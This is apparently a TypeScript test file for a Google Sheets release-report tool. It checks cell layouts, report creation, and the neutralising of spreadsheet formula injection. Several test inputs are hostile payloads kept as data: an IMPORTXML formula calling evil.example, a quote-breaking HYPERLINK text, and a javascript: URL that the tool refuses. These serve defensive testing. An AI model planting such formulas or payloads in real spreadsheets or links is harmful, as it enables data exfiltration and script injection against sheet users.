import { describe, expect, it } from 'vitest';
import { Registry } from '../../src/kit/registry.ts';
import { zstream } from '../../tools/oar/testing/sandbox.ts';
import { neutralise, stored } from '../../tools/sheets/cells.ts';
import { SheetsClient, taskMirror } from '../../tools/sheets/client.ts';
import { type Layout, overallAfter, taskCell } from '../../tools/sheets/layout.ts';
import { sheets } from '../../tools/sheets/module.ts';
import { held, principal, services, standIn } from '../support/stand-in.ts';

const SCENARIO = 'z-stream-4.20.27';

describe('layouts', () => {
  it.each<[Layout, string, string | undefined]>([
    ['errata', 'check-greenwave-cvp-tests', 'B13'],
    ['konflux', 'check-greenwave-cvp-tests', undefined],
    ['errata', 'check-cve-tracker-bug', 'B14'],
    ['konflux', 'check-cve-tracker-bug', 'B13'],
    ['errata', 'stage-testing', 'B16'],
    ['konflux', 'stage-testing', 'B15'],
    ['errata', 'change-advisory-status', 'B19'],
    ['konflux', 'change-advisory-status', 'B18'],
    ['konflux', 'take-ownership', 'B8'],
    ['konflux', 'nonsense', undefined],
  ])('%s: %s stands in %s', (layout, task, cell) => expect(taskCell(layout, task)).toBe(cell));

  it('a Fail in any row turns the sheet red, in either layout', () => {
    for (const task of [
      'push-to-cdn-staging',
      'stage-testing',
      'image-signed-check',
      'change-advisory-status',
    ]) {
      expect(overallAfter(new Map(), task, 'Fail')).toBe('Red');
      expect(overallAfter(new Map([[task, 'Fail']]), 'take-ownership', 'In Progress')).toBe('Red');
      expect(overallAfter(new Map([[task, 'Fail']]), task, 'Pass')).toBe('Green');
      expect(overallAfter(new Map([[task, 'Fail']]), task, 'In Progress')).toBeUndefined();
    }
  });

  it('reads both', async () => {
    const world = await zstream(SCENARIO);
    expect(await world.read('sheets_get_report', { release: '4.20.26' })).toMatchObject({
      layout: 'konflux',
      overall: 'Green',
      advisories: ['rpm 168669', 'rhcos 168670'],
      candidate_builds: { x86_64: '4.20.0-0.nightly-2026-06-15-101112' },
      jira: { key: 'ART-20714', url: 'https://example.atlassian.net/browse/ART-20714' },
      summary: expect.stringContaining('3 of 11 tasks Pass, 0 Fail'),
    });
    const errata = await world.read('sheets_get_report', { release: '4.17.6' });
    expect(errata).toMatchObject({ layout: 'errata', overall: 'Red' });
    expect(errata).toMatchObject({
      tasks: expect.arrayContaining([
        { task: 'stage-testing', name: 'Stage test', cell: 'B16', status: 'Fail' },
        { task: 'check-greenwave-cvp-tests', name: 'Greenwave CVP', cell: 'B13', status: 'Pass' },
      ]),
    });
  });

  it('a tab without the row names is drift; one that is not there is not found', async () => {
    const world = await zstream(SCENARIO);
    await world.patch({
      sheets: { documents: { 'zstream-reports-4-17': { tabs: { '4.17.6': { cells: { A13: 'Lunch' } } } } } },
    });
    await expect(world.read('sheets_get_report', { release: '4.17.6' })).rejects.toMatchObject({
      code: 'schema_drift',
      message: expect.stringContaining('A13'),
    });
    await expect(world.read('sheets_get_report', { release: '4.17.9' })).rejects.toMatchObject({
      code: 'not_found',
    });
    await expect(world.read('sheets_get_report', { release: '4.18.1' })).rejects.toMatchObject({
      code: 'precondition',
    });
  });
});

describe('the mirror of a task', () => {
  it('sets the cell and the colour in one request, and nothing when they stand', async () => {
    await using server = await standIn(answers());
    const client = new SheetsClient(server.http(), { documents: { '4.20': 'a-document-id' } });
    const effects = await taskMirror(client, '4.20.26', 'stage-testing', 'Fail');
    expect(effects.map(({ key, preview }) => [key, preview.after])).toEqual([
      ['sheets/a-document-id/4.20.26/B15,B1', { B15: 'Fail', B1: 'Red' }],
    ]);
    expect(await effects[0]?.find()).toEqual({ state: 'absent' });
    await effects[0]?.send(held);
    expect(JSON.parse(server.seen.at(-1)?.body ?? '')).toEqual({
      valueInputOption: 'RAW',
      data: [
        { range: "'4.20.26'!B15", values: [['Fail']] },
        { range: "'4.20.26'!B1", values: [['Red']] },
      ],
    });
    expect(await taskMirror(client, '4.20.26', 'check-greenwave-cvp-tests', 'Pass')).toEqual([]);
  });
});

/** A Konflux tab that is green and runs its stage tests; the same rows answer every question of values. */
function answers() {
  const names = Array.from({ length: 12 }, (_, index) => [index === 5 ? 'CVE trackers' : `row ${index + 8}`]);
  return {
    'GET /v4/spreadsheets/a-document-id': {
      body: { sheets: [{ properties: { sheetId: 7, title: '4.20.26' } }] },
    },
    'GET /v4/spreadsheets/a-document-id/values:batchGet': [
      {
        body: {
          valueRanges: [
            { range: 'a', values: [['Green']] },
            { range: 'b', values: names },
            { range: 'c', values: [['Pass']] },
          ],
        },
      },
      {
        body: {
          valueRanges: [
            { range: 'a', values: [['In Progress']] },
            { range: 'b', values: [['Green']] },
          ],
        },
      },
      {
        body: {
          valueRanges: [{ range: 'a' }, { range: 'b', values: names }, { range: 'c' }],
        },
      },
    ],
    'POST /v4/spreadsheets/a-document-id/values:batchUpdate': { body: { totalUpdatedCells: 2 } },
  };
}

describe('cells', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    [' \t=cmd', "'  =cmd"],
    ['\r=x', "' =x"],
    ['a\tb', 'a b'],
    ['one\r\ntwo', 'one\ntwo'],
    ['Pass', 'Pass'],
    ['4.20.27 - done', '4.20.27 - done'],
  ])('%j is stored as %j', (text, safe) => expect(neutralise(text)).toBe(safe));

  it('a link is made of quoted parts', () => {
    const value = {
      formula: 'hyperlink' as const,
      url: 'https://x.example/?a="b"',
      text: 'A"),IMPORTXML("x',
    };
    expect(stored(value)).toBe('=HYPERLINK("https://x.example/?a=""b""","A""),IMPORTXML(""x")');
  });

  it('are compared before they are written', async () => {
    const world = await zstream(SCENARIO);
    const cells = [
      { range: '4.20.26!B9', value: '=IMPORTXML("https://evil.example","//a")' },
      { range: "'4.20.26'!B10", value: 'Pass' },
      { range: '4.20.26!C8', value: { formula: 'hyperlink', url: 'https://x.example/1', text: 'OCPBUGS-1' } },
    ];
    expect(await world.write('sheets_update_cells', { document: '4.20', cells })).toMatchObject({
      written: ['B9', 'B10', 'C8'],
    });
    const changes = await world.changes();
    expect(changes).toHaveLength(3);
    expect(await world.write('sheets_update_cells', { document: '4.20', cells })).toMatchObject({
      written: [],
    });
    expect(await world.changes()).toEqual(changes);
    const read = async (formulas: boolean) =>
      await world.read('sheets_read_range', { document: '4.20', range: '4.20.26!B8:C10', formulas });
    expect(await read(false)).toMatchObject({
      values: [['Pass', 'OCPBUGS-1'], ['\'=IMPORTXML("https://evil.example","//a")'], ['Pass']],
    });
    expect(await read(true)).toMatchObject({
      values: [['Pass', '=HYPERLINK("https://x.example/1","OCPBUGS-1")'], [expect.any(String)], ['Pass']],
    });
  });

  it.each([
    [{ range: 'B1', value: 'x' }],
    [{ range: "4.20'!B1", value: 'x' }],
    [{ range: '4.20.26!B1:B9', value: 'x' }],
    [{ range: '4.20.26!B1', value: { formula: 'image', url: 'https://x.example', text: 'x' } }],
    [{ range: '4.20.26!B1', value: { formula: 'hyperlink', url: 'javascript:alert(1)', text: 'x' } }],
  ])('%j is refused', async (cell) => {
    const registry = new Registry([sheets], { sheets: {} }, services);
    await expect(
      registry.effects('sheets_update_cells', { document: '4.20', cells: [cell] }, { principal, now: 0 }),
    ).rejects.toMatchObject({ code: 'invalid_input' });
  });
});

describe('sheets_create_report', () => {
  const input = {
    release: '4.20.27',
    advisories: ['rpm 169025', 'rhcos 169026'],
    candidate_builds: { x86_64: '4.20.0-0.nightly-2026-06-24-204339' },
    jira: { key: 'ART-21265', url: 'https://example.atlassian.net/browse/ART-21265' },
  };

  it('copies the template once', async () => {
    const world = await zstream(SCENARIO);
    expect(await world.write('sheets_create_report', input)).toMatchObject({
      created: true,
      url: expect.stringContaining('#gid='),
    });
    const changes = await world.changes();
    expect(changes).toHaveLength(5);
    expect(await world.write('sheets_create_report', input)).toMatchObject({ created: false });
    expect(await world.changes()).toEqual(changes);
    expect(await world.read('sheets_get_report', { release: '4.20.27' })).toMatchObject({
      layout: 'konflux',
      overall: 'Green',
      advisories: input.advisories,
      candidate_builds: input.candidate_builds,
      jira: input.jira,
    });
  });

  it('an answer that was lost is looked up', async () => {
    const world = await zstream(SCENARIO);
    await world.fault({
      system: 'sheets',
      method: 'POST',
      path: ':batchUpdate$',
      fault: 'reset_after',
      times: 1,
    });
    expect(await world.write('sheets_create_report', input)).toMatchObject({ created: true });
    expect((await world.changes()).filter((change) => change.startsWith('tab_created'))).toHaveLength(1);
  });

  it('without a template it says so', async () => {
    const world = await zstream(SCENARIO);
    await world.patch({ sheets: { documents: { 'zstream-reports-4-20': { tabs: { template: null } } } } });
    await expect(world.write('sheets_create_report', input)).rejects.toMatchObject({
      code: 'not_found',
      remedy: expect.stringContaining('template'),
    });
    expect(await world.changes()).toEqual([]);
  });
});

describe('limits hold for the library', () => {
  const settings = (url: string) => ({
    sheets: {
      base_url: `${url}/behind/a/proxy`,
      token: 'cmd:echo sheet-secret',
      documents: { '4.20': 'a-document-id' },
    },
  });

  it('its requests go below base_url with our credential', async () => {
    await using server = await standIn({
      'GET /behind/a/proxy/v4/spreadsheets/a-document-id': { body: { sheets: [] } },
    });
    const registry = new Registry([sheets], settings(server.url), services);
    await expect(
      registry.read('sheets_get_report', { release: '4.20.1' }, { principal, now: 0 }),
    ).rejects.toMatchObject({ code: 'not_found' });
    expect(server.seen[0]?.headers.authorization).toBe('Bearer sheet-secret');
  });

  it.each([
    [401, 'auth'],
    [403, 'forbidden'],
    [429, 'rate_limited'],
    [500, 'upstream'],
  ])('%i is %s', async (status, code) => {
    await using server = await standIn({
      'GET /behind/a/proxy/v4/spreadsheets/a-document-id': {
        status,
        body: { error: {} },
        headers: { 'retry-after': '60' },
      },
    });
    const registry = new Registry([sheets], settings(server.url), services);
    await expect(
      registry.read('sheets_get_report', { release: '4.20.1' }, { principal, now: 0 }),
    ).rejects.toMatchObject({ code });
  });
});
